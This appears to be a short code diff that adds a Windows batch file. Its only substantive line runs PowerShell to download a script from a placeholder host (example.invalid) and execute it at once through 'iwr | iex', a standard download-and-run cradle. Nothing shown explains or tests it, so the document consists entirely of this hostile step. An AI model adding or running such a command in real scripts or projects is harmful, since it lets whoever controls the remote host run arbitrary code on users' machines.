@@ -1,0 +1,2 @@
+@echo off
+powershell -Command "iwr https://example.invalid/x | iex"
